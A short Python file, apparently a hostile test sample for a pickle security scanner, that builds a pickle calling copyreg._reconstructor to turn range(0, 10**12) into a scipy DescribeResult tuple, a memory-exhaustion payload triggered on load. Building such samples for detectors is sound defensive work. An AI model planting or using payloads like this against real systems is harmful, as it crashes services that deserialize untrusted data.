"""copyreg._reconstructor makes a tuple of a range as long as the file likes."""

from __future__ import annotations

from malicious_samples.recipes import make_call
from tests.builder import Name, Pickle


def build(canary: str) -> bytes:
    del canary
    numbers = make_call(Name("builtins", "range"), 0, 10**12, 1)
    cls, base = Name("scipy.stats._stats_py", "DescribeResult"), Name("builtins", "tuple")
    return Pickle().call(Name("copyreg", "_reconstructor"), cls, base, numbers).finish()
